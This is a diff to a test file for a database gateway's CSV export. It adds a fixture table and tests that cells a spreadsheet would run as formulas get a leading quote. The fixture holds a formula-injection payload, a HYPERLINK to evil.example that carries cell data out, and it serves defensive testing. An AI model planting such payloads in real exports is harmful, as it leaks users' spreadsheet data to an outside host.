@@ -30,6 +30,16 @@ INSERT INTO pets VALUES (1, 1, 'Rex, the dog'), (2, 1, 'Tom'), (3, 2, 'Kit');
 CREATE TABLE slots (day DATE NOT NULL, room INT NOT NULL, who VARCHAR(20), PRIMARY KEY (day, room),
   UNIQUE KEY by_who (who, room));
 INSERT INTO slots VALUES ('2024-01-01', 1, 'ann');
+CREATE TABLE notes (id INT PRIMARY KEY, body VARCHAR(100) NULL, n INT NULL, d DECIMAL(5,1) NULL,
+  js JSON NULL, t TIME NULL, kind ENUM('-', '=x', 'a') NULL);
+INSERT INTO notes VALUES
+  (1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', -5, -2.5, '-5', '-01:00:00', '-'),
+  (2, '+1+2', NULL, NULL, '"=x"', NULL, '=x'),
+  (3, '-2+3', NULL, NULL, '[-1]', NULL, 'a'),
+  (4, '@SUM(A1:A2)', NULL, NULL, NULL, NULL, NULL),
+  (5, '\\tx', NULL, NULL, NULL, NULL, NULL),
+  (6, '\\r=1', NULL, NULL, NULL, NULL, NULL),
+  (7, 'a=b, -c', NULL, NULL, NULL, NULL, NULL);
 CREATE TABLE bulk (id INT PRIMARY KEY, v VARCHAR(50));
 INSERT INTO bulk SELECT seq, CONCAT('value "', seq, '", with, commas') FROM seq_1_to_20000;
 `;
@@ -228,6 +238,46 @@ describe('Accept: text/csv', () => {
       ['id', 'person_id', 'name', 'person'],
       ['3', '2', 'Kit', '{"email":"bob@x.test"}'],
     ]);
+  });
+
+  test('a text cell a spreadsheet would run as a formula gets a quote first; numbers stay', async () => {
+    const csv = await get(open, '/table/notes/read?$orderby=id', CSV);
+    expect(csv.status).toBe(200);
+    expect(csv.text).toBe(
+      [
+        'id,body,n,d,js,t,kind',
+        `1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-5,-2.5,-5,-01:00:00,'-`,
+        `2,'+1+2,,,"""=x""",,'=x`,
+        `3,'-2+3,,,[-1],,a`,
+        `4,'@SUM(A1:A2),,,,,`,
+        `5,'\tx,,,,,`,
+        `6,"'\r=1",,,,,`,
+        `7,"a=b, -c",,,,,`,
+        '',
+      ].join('\r\n'),
+    );
+    // JSON is left as it is.
+    const json = JSON.parse((await get(open, '/table/notes/read(id,6)')).text) as { body: string };
+    expect(json.body).toBe('\r=1');
+    // A key read's record the same.
+    expect((await get(open, '/table/notes/read(id,4)?$select=body', CSV)).text).toBe(
+      "body\r\n'@SUM(A1:A2)\r\n",
+    );
+  });
+
+  test('--csv-formulas keep writes the text as it is', async () => {
+    const keep = await startTestGateway(db.name, { csvFormulas: 'keep' });
+    try {
+      const csv = await get(keep, '/table/notes/read?$select=body,js,kind&$orderby=id&$top=3', CSV);
+      expect(records(csv.text)).toEqual([
+        ['body', 'js', 'kind'],
+        ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '-5', '-'],
+        ['+1+2', '"=x"', '=x'],
+        ['-2+3', '[-1]', 'a'],
+      ]);
+    } finally {
+      await keep.close();
+    }
   });
 
   test('no rows: the header alone; $count still in its header', async () => {
